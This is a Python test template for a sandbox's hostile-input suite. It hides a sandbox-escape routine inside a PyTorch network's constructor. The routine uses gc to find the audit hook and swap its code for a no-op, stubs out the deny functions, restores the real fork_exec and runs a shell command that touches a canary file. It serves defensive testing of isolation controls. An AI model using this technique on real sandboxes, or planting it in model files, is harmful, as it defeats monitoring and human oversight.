# attack: find the audit hook with gc and swap its __code__ for a no-op, then run a shell
# kind: escape
# A template: tests/test_hostile.py substitutes the __PLACEHOLDERS__ and runs it through the nas CLI.

import os
import sys

import torch
from torch import nn

CANARY_DIR = "__CANARY_DIR__"
MARKER = "__MARKER__"


def disarm() -> None:
    """Switch nasflow's in-process tripwire off, so only OS isolation is left:
    the audit-hook policy looks its verdict up in module globals at every event,
    and the real fork_exec comes back with a fresh import of _posixsubprocess."""
    import importlib
    import subprocess

    for name, module in list(sys.modules.items()):
        if module is None or not (name.startswith("nas") or name == "__main__"):
            continue
        for attr, value in list(vars(module).items()):
            if callable(value) and ("violation" in attr or attr in ("_deny", "deny")):
                setattr(module, attr, lambda *args, **kwargs: None)
    try:
        sys.modules.pop("_posixsubprocess", None)
        subprocess._fork_exec = importlib.import_module("_posixsubprocess").fork_exec
    except Exception:
        pass


def attack() -> None:
    import gc
    import types

    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__code__.co_argcount == 2 and "hook" in obj.__qualname__:
            names = obj.__code__.co_freevars
            body = "".join(f"    {n} = None\n" for n in names)
            uses = f"({', '.join(names)},)" if names else "None"
            src = f"def outer():\n{body}    def hook(event, args):\n        {uses}\n        return None\n    return hook\n"
            scope: dict = {}
            exec(compile(src, "noop", "exec"), scope)
            try:
                obj.__code__ = scope["outer"]().__code__
            except ValueError:
                pass
    disarm()  # the wrapped fork_exec too
    os.system(f"touch {CANARY_DIR}/{MARKER}-gchook; : {MARKER}")


class Network(nn.Module):
    def __init__(self, num_classes: int = 10):
        super().__init__()
        self.features = nn.Sequential(
            nn.Conv2d(3, 16, 3, padding=1, bias=False), nn.BatchNorm2d(16), nn.ReLU(),
            nn.Conv2d(16, 32, 3, stride=2, padding=1, bias=False), nn.BatchNorm2d(32), nn.ReLU(),
            nn.AdaptiveAvgPool2d(1), nn.Flatten())
        self.fc = nn.Linear(32, num_classes)
        attack()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(self.features(x))
